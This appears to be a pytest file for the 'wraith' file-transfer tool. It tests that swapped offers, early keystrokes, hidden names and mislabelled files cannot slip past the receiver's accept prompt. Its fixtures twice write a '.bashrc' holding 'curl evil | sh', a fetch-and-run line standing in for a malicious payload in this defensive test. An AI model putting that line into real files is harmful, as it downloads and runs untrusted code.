"""What is accepted is what was shown: the question on a real terminal, both sides as shipped."""

from __future__ import annotations

import signal
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from wraith.testing.terminal import TerminalCommand
from wraith.testing.two_homes import TwoHomes, code_of, finish, signalled

QUESTION = "accept? [y/N/l]: "

FILES_AS_TEXT = """
from wraith.aio.disk.file_source import FileSource
from wraith.transfer.messages import OfferKind
scan = FileSource.scan
def scan_as_text(*arguments, **options):
    source = scan(*arguments, **options)
    source.outgoing.kind = OfferKind.TEXT
    return source
FileSource.scan = scan_as_text
"""

Receive = Callable[..., TerminalCommand]


def _gift(homes: TwoHomes) -> Path:
    homes.file("gift/holiday.txt", b"nice view")
    return homes.source / "gift"


def _swap(homes: TwoHomes, gift: Path) -> None:
    """Another listing under the same name."""
    (gift / "holiday.txt").rename(gift / "holiday2.txt")
    (gift / ".bashrc").write_bytes(b"curl evil | sh\n")


def _files(out: Path) -> list[str]:
    """What lies in the destination, without the state of unfinished transfers."""
    paths = [path.relative_to(out) for path in out.rglob("*")]
    return sorted(str(path) for path in paths if not path.parts[0].startswith(".wraith-"))


@pytest.mark.spec("TR-100")
@pytest.mark.spec("TR-101")
@pytest.mark.parametrize("answer", ["n", "y"])
def test_an_offer_that_is_swapped_under_the_question_is_asked_about_again(
    homes: TwoHomes, receive: Receive, answer: str
) -> None:
    gift = _gift(homes)
    sender = homes.send(gift)
    code = code_of(sender)
    receiver = receive(code)
    receiver.wait_for("1 file")
    receiver.wait_for("accept?")
    signalled(sender, signal.SIGTERM)
    sender.wait_exit()
    _swap(homes, gift)
    again = homes.send(gift)
    assert code_of(again) == code
    again.wait_event("deciding")
    # The person has read the first offer, and answers what they believe to be its question.
    receiver.type("y\n")
    time.sleep(2.0)
    assert _files(homes.out) == [], "taken, and never shown"
    receiver.wait_for("CHANGED", deadline_s=10)
    receiver.wait_for("2 files")
    receiver.wait_for(QUESTION)
    receiver.type("y\n" if answer == "y" else "n\n")
    assert receiver.wait_exit() == (0 if answer == "y" else 16)
    expected = ["gift", "gift/.bashrc", "gift/holiday2.txt"] if answer == "y" else []
    assert _files(homes.out) == expected


@pytest.mark.spec("TR-101")
def test_what_was_typed_before_the_question_answers_nothing(
    homes: TwoHomes, receive: Receive
) -> None:
    gift = _gift(homes)
    sender = homes.send(gift)
    code = code_of(sender)
    sender.kill()
    receiver = receive(code)
    time.sleep(1.0)  # it is a process: it has to be there before anything is typed
    receiver.type("y\n")
    sender = homes.send(gift)
    assert code_of(sender) == code
    receiver.wait_for("accept?")
    time.sleep(3.0)  # long enough for a small file, on a busy machine too
    assert _files(homes.out) == [] and receiver.process.poll() is None, receiver.screen
    receiver.type("y\n")
    assert receiver.wait_exit() == 0
    assert finish(sender) == (0,)
    assert _files(homes.out) == ["gift", "gift/holiday.txt"]


@pytest.mark.parametrize(("typed", "code"), [("\n", 16), ("n\n", 16), ("x\n", None), ("\x04", 16)])
def test_nothing_but_yes_takes_it(
    homes: TwoHomes, receive: Receive, typed: str, code: int | None
) -> None:
    sender = homes.send(_gift(homes))
    receiver = receive(code_of(sender))
    receiver.wait_for(QUESTION)
    receiver.type(typed)
    if code is None:  # not understood: the question stands again
        receiver.wait_for(QUESTION)
        receiver.type("yes\n")
        assert receiver.wait_exit() == 0
        assert _files(homes.out) == ["gift", "gift/holiday.txt"]
    else:
        assert receiver.wait_exit() == code
        assert _files(homes.out) == []


@pytest.mark.spec("TR-101")
def test_with_yes_a_changed_offer_is_taken_and_said(homes: TwoHomes, receive: Receive) -> None:
    gift = _gift(homes)
    big = homes.file("gift/big.bin", 4 << 20)
    sender = homes.send("--limit", "500k", gift)
    code = code_of(sender)
    receiver = receive(code, "--yes")
    receiver.wait_for("2 files")
    while not sender.wait_event("progress")["bytes_done"]:
        pass
    signalled(sender, signal.SIGTERM)
    sender.wait_exit()
    _swap(homes, gift)
    again = homes.send(gift)
    assert code_of(again) == code
    said = receiver.wait_for("3 files")
    assert "CHANGED: it was 2 files" in said
    counted = receiver.wait_for(", into ")
    assert counted.startswith(", 1 folder (1 hidden), 4.0 MiB"), counted
    assert receiver.wait_exit() == 0
    names = ["gift", "gift/.bashrc", "gift/big.bin", "gift/holiday2.txt"]
    assert _files(homes.out) == names
    assert (homes.out / "gift/big.bin").read_bytes() == big.read_bytes()


@pytest.mark.spec("TR-102")
def test_who_accepted_one_sender_lets_no_other_in(homes: TwoHomes) -> None:
    path = homes.file("a.bin", 4 << 20)
    other = homes.file("b.bin", b"another's")
    receiver = homes.start(
        *("receive", "--json", "--yes", "--out", str(homes.out), "--listen", "127.0.0.1:0"),
        home="home-receiver",
    )
    code = code_of(receiver)
    sender = homes.send("--to", "-", "--limit", "500k", path, stdin=code)
    receiver.wait_event("accepted")
    signalled(sender, signal.SIGTERM)
    receiver.wait_event("interrupted")
    stranger = homes.send("--to", "-", other, home="home-stranger", stdin=code)
    assert stranger.wait_event("error")["code"] == "busy" and stranger.wait_exit() == 17
    again = homes.send("--to", "-", path, stdin=code)
    assert finish(again, receiver) == (0, 0)
    assert _files(homes.out) == ["a.bin"]


def _sneaky(homes: TwoHomes, n_hidden: int) -> Path:
    """Photographs, and among them names that a shell does not show."""
    for i in range(10):
        homes.file(f"gift/+photo{i:02}.jpg", b"p")
    for i in range(n_hidden):
        homes.file(f"gift/album/.hidden{i:02}", b"h")
    homes.file("gift/run.sh", b"#!/bin/sh").chmod(0o755)
    return homes.source / "gift"


@pytest.mark.spec("TR-143")
def test_files_that_are_called_a_text_are_refused_without_a_question(
    homes: TwoHomes, receive: Receive
) -> None:
    paths = homes.file(".bashrc", b"curl evil | sh\n"), homes.file("z", b"z")
    sender = homes.send(*paths, prelude=FILES_AS_TEXT)
    receiver = receive(code_of(sender))
    said = receiver.wait_for("called a text and is not one file of at most 1 MiB")
    assert receiver.wait_exit() == 16
    assert QUESTION not in said and "offered:" not in said
    assert _files(homes.out) == []
    error = sender.wait_event("error")
    assert (error["code"], sender.wait_exit()) == ("offer-refused", 16)
    assert "it is called a text and is none" in str(error["message"])


@pytest.mark.spec("TR-106")
def test_yes_is_not_taken_while_a_marked_name_was_not_shown(
    homes: TwoHomes, receive: Receive
) -> None:
    sender = homes.send(_sneaky(homes, 12))
    receiver = receive(code_of(sender))
    receiver.wait_for("accept?")
    receiver.type("y\n")
    time.sleep(1.0)
    assert _files(homes.out) == [], "taken with two hidden names that nobody saw"
    receiver.wait_for("list first (l): 2 marked names")
    receiver.wait_for(QUESTION)
    receiver.type("l\n")
    shown = receiver.wait_for(QUESTION)
    assert all(f".hidden{i:02}  1 B  [hidden]" in shown for i in range(12))
    receiver.type("y\n")
    assert receiver.wait_exit() == 0
    assert len(_files(homes.out)) == 1 + 10 + 1 + 12 + 1


@pytest.mark.spec("TR-106")
def test_marked_names_that_are_on_the_screen_need_no_list(
    homes: TwoHomes, receive: Receive
) -> None:
    sender = homes.send(_sneaky(homes, 10))
    receiver = receive(code_of(sender))
    shown = receiver.wait_for(QUESTION)
    assert "(10 hidden, 1 executable)" in shown
    assert shown.index("hidden: gift/album/.hidden00") < shown.index("  gift/")
    assert "executable: gift/run.sh" in shown
    receiver.type("y\n")
    assert receiver.wait_exit() == 0


@pytest.mark.spec("TR-106")
def test_a_list_longer_than_the_screen_is_paged(homes: TwoHomes, receive: Receive) -> None:
    for i in range(60):
        homes.file(f"gift/.secret{i:02}", b"s")
    sender = homes.send(homes.source / "gift")
    receiver = receive(code_of(sender))
    receiver.wait_for(QUESTION)
    receiver.type("l\n")
    receiver.wait_for("q ends the list: ")
    receiver.type("q\n")
    receiver.wait_for(QUESTION)
    receiver.type("y\n")  # it was paged, and they have seen enough
    assert receiver.wait_exit() == 0


@pytest.mark.spec("TR-107")
@pytest.mark.parametrize(
    ("again", "expected"),
    [((), {"a.bin": 3, "a (1).bin": 4 << 20}), (("--overwrite",), {"a.bin": 4 << 20})],
    ids=["without", "another one"],
)
def test_a_choice_for_names_that_exist_holds_for_the_same_command_without_it(
    homes: TwoHomes, again: tuple[str, ...], expected: dict[str, int]
) -> None:
    path = homes.file("a.bin", 4 << 20)
    (homes.out / "a.bin").write_bytes(b"old")
    sender = homes.send("--limit", "1M", path)
    code = code_of(sender)
    receiver = homes.receive(code, "--rename")
    while not receiver.wait_event("progress")["bytes_done"]:
        pass
    receiver.kill()
    assert finish(homes.receive(code, *again), sender) == (0, 0)
    assert {name: (homes.out / name).stat().st_size for name in _files(homes.out)} == expected
